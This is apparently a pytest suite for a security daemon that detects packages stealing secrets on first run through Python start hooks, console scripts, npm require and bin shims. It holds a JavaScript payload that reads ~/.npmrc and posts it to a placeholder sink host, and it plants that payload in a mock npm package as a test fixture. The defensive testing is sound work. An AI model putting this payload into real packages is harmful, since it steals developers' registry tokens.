"""The ways to a first run: a `.pth` at interpreter start, a console script, `require`, a bin shim."""

import shutil
import signal
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from lab.daemon import Daemon, as_user, environment, hand_to_user, user_venv
from lab.demands import demand
from lab.registry import Registry
from lab.world import World

pytestmark = [pytest.mark.root, pytest.mark.timeout(150, method="thread")]

_PACKAGES = Path(__file__).parent / "daemon_packages"
_BOOT = "pkg:pypi/boot-line@1.0.0"
_STEAL = """
const fs = require("fs"), os = require("os"), http = require("http");
try {
  const loot = fs.readFileSync(os.homedir() + "/.npmrc");
  const asked = http.request("http://@SINK@:8080/require", { method: "POST", timeout: 3000 });
  asked.on("error", () => {});
  asked.end(loot);
} catch (error) {}
console.log("went on");
"""


@pytest.fixture
def world(lab: None) -> Iterator[World]:
    """An index with a package that hooks the interpreter's start, and an honest one."""
    with World([_PACKAGES / "boot-line-1.0.0", _PACKAGES / "calm-sea-1.0.0"]) as made:
        yield made


@pytest.fixture
def house(world: World) -> Path:
    """A virtual environment of the made-up user."""
    made = world.folder / "venv"
    python = str(user_venv() / "bin" / "python3")
    subprocess.run([python, "-m", "venv", str(made)], check=True, timeout=120, env=environment(world))
    hand_to_user(world)
    return made


def _pip(world: World, house: Path, *names: str) -> int:
    source = ["--index-url", world.index.url, "--trusted-host", world.index.host, "--no-build-isolation"]
    return as_user(world, [str(house / "bin" / "pip"), "install", *source, *names]).status


def test_without_a_daemon_each_way_steals(world: World, house: Path) -> None:
    """The positive control."""
    assert _pip(world, house, "boot-line") == 0
    as_user(world, [str(house / "bin" / "python"), "-c", "pass"])
    assert "~/.npmrc" in world.leaks()


def test_a_start_hook_and_a_script(guard: None, world: World, house: Path) -> None:
    """Every start of that interpreter is a first run, and so is the console script; both go on."""
    with Daemon(world) as daemon:
        assert _pip(world, house, "boot-line") == 0
        daemon.settled()
        for command in (["python", "-c", "print('main')"], ["boot-line"]):
            done = as_user(world, [str(house / "bin" / command[0]), *command[1:]])
            assert done.out == "main\n", done.err
        ended = daemon.settled(3)
        assert [run["verdict"] for run in ended] == ["blocked", "blocked", "clean"], daemon.log
        assert {found["package"] for found in daemon.report()["findings"]} == {_BOOT}, daemon.log
    assert world.leaks() == []


def test_a_manager_is_spared_the_hook(guard: None, world: World, house: Path) -> None:
    """The next install does not run it, stays a manager, and installs."""
    with Daemon(world) as daemon:
        assert _pip(world, house, "boot-line") == 0
        daemon.settled()
        assert _pip(world, house, "calm-sea") == 0
        ended = daemon.settled(2)
        assert ended[0]["verdict"] == "clean", daemon.log
        assert "boot_line.pth" in daemon.log
        assert list(house.glob("lib/python3*/site-packages/calm_sea.py"))
    assert world.leaks() == []


@pytest.mark.parametrize("guarded", [False, True], ids=["control", "guarded"])
def test_node_packages(guard: None, world: World, guarded: bool) -> None:
    """`require` and the bin shim are first runs that name the package; unguarded, both steal."""
    npm, node = shutil.which("npm"), shutil.which("node")
    demand(None if npm and node else "npm is not here")
    project = world.folder / "site project"
    project.mkdir()
    (project / "package.json").write_text('{"name": "mine", "version": "1.0.0"}')
    with Registry() as registry:
        steal = _STEAL.replace("@SINK@", world.network.sink)
        manifest = {
            "name": "late-bloom",
            "version": "2.0.0",
            "main": "index.js",
            "bin": {"late-bloom": "cli.js"},
        }
        registry.add(manifest, {"index.js": steal, "cli.js": "#!/usr/bin/env node\n" + steal})
        hand_to_user(world)
        with Daemon(world) as daemon:
            if not guarded:
                daemon.end(signal.SIGINT)
            install = [str(npm), "install", "--registry", registry.url, "late-bloom"]
            done = as_user(world, install, cwd=project)
            assert done.status == 0, done.err
            if guarded:
                daemon.settled()
            for command in ([str(node), "-e", "require('late-bloom')"], ["node_modules/.bin/late-bloom"]):
                assert as_user(world, command, cwd=project).out == "went on\n"
            if guarded:
                daemon.settled(3)
                findings = daemon.report()["findings"]
                assert {found["package"] for found in findings} == {"pkg:npm/late-bloom@2.0.0"}, daemon.log
                assert {found["stage"] for found in findings} == {"first-run"}
    assert ("~/.npmrc" in world.leaks()) is not guarded
